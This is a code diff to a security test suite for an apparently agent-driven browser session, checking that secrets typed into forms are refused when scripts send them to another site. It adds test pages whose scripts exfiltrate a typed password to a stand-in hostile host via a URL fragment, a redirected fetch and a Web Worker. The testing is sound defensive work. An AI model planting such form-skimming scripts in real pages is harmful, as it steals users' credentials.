@@ -10,7 +10,7 @@ const { signal } = new AbortController();
 let server: Server;
 let own: string;
 let foreign: string;
-let session: BrowserSession;
+let openFor: (site: string) => Promise<BrowserSession>;
 let close: () => Promise<void>;
 /** Host, address, headers and body of each request but those for pages. */
 const received: { readonly host: string; readonly text: string }[] = [];
@@ -49,10 +49,22 @@ const pages: Readonly<Record<string, () => string>> = {
     (evil) =>
       `form.onsubmit = (event) => { event.preventDefault(); fetch('${evil}', { headers: { Accept: form.word.value }, mode: 'no-cors' }); };`,
   ),
+  '/fragment': script(
+    (evil) =>
+      `form.onsubmit = (event) => { event.preventDefault(); location.href = '${evil}#' + form.word.value; };`,
+  ),
+  '/redirected-fetch': script(
+    () =>
+      `form.onsubmit = (event) => { event.preventDefault(); fetch('/307', { method: 'POST', body: form.word.value, mode: 'no-cors' }); };`,
+  ),
+  '/worker': script(
+    (evil) =>
+      `const source = "onmessage = ({ data }) => fetch('${evil}', { method: 'POST', body: data, mode: 'no-cors' })";
+      const worker = new Worker(URL.createObjectURL(new Blob([source])));
+      form.onsubmit = (event) => { event.preventDefault(); worker.postMessage(form.word.value); };`,
+  ),
   '/own': form('action="/in"'),
 };
-
-let other: BrowserSession;
 
 beforeAll(async () => {
   server = createServer(async (request, response) => {
@@ -77,7 +89,7 @@ beforeAll(async () => {
   foreign = `http://localhost:${port}`;
   const driver = await openDriver();
   close = () => driver.close();
-  const openFor = (site: string) =>
+  openFor = (site) =>
     driver.open({
       egress: { check: async (url) => ({ url: new URL(url), addresses }) },
       reveal(text, origin) {
@@ -88,8 +100,6 @@ beforeAll(async () => {
       },
       signal,
     });
-  session = await openFor(own);
-  other = await openFor(foreign);
 });
 afterAll(async () => {
   await close();
@@ -101,7 +111,7 @@ const idOf = (view: PageView, name: string): string =>
   view.elements().find((element) => element.name === name)?.id ?? '';
 
 /** Types the password and sends the form; answers with what the click reported, until an event has come. */
-async function submit(path: string) {
+async function submit(session: BrowserSession, path: string) {
   received.length = 0;
   await session.page.act({ action_type: 'goto_url', url: own + path }, { epoch: 0, signal });
   const view = await session.page.read({ mode: 'action', signal });
@@ -114,7 +124,9 @@ async function submit(path: string) {
 }
 
 const isRefused = async (path: string): Promise<void> => {
-  const { events } = await submit(path);
+  // The document that gets the first secret of a session was open before it.
+  const session = await openFor(own);
+  const { events } = await submit(session, path);
   const refusal = {
     type: 'request_refused',
     origin: foreign,
@@ -122,25 +134,39 @@ const isRefused = async (path: string): Promise<void> => {
   };
   expect(events).toContainEqual(refusal);
   expect(received.filter(({ host }) => host.startsWith('localhost'))).toEqual([]);
+  await session.close();
 };
-it.each(['/redirecting'])(
+it.each(['/redirecting', '/image'])(
   'a request that carries a secret to another site is refused: %s',
   { tags: ['security'] },
   isRefused,
 );
-it.each(['/permanent', '/window', '/swapped', '/script', '/address', '/beacon', '/image', '/header'])(
+it.each([
+  '/permanent',
+  '/window',
+  '/swapped',
+  '/script',
+  '/address',
+  '/beacon',
+  '/header',
+  '/fragment',
+  '/redirected-fetch',
+  '/worker',
+])(
   'a request that carries a secret to another site is refused: %s',
   { tags: ['security', 'extended'] },
   isRefused,
 );
 
 it('a request that carries a secret to its site goes through, in each session by its own rules', async () => {
+  const [session, other] = [await openFor(own), await openFor(foreign)];
   await other.page.act({ action_type: 'goto_url', url: `${foreign}/own` }, { epoch: 0, signal });
   const view = await other.page.read({ mode: 'action', signal });
   const text = '{{secret.shop.password.1}}';
   const typing = { action_type: 'input_text', id: idOf(view, 'Password'), text } as const;
   expect((await other.page.act(typing, { epoch: view.epoch, signal })).status).toBe('ok');
-  const { events } = await submit('/own');
+  const { events } = await submit(session, '/own');
   expect(events.filter(({ type }) => type === 'request_refused')).toEqual([]);
   expect(received.map(({ text }) => text).join()).toContain('word=correct+horse+battery');
+  await Promise.all([session.close(), other.close()]);
 });
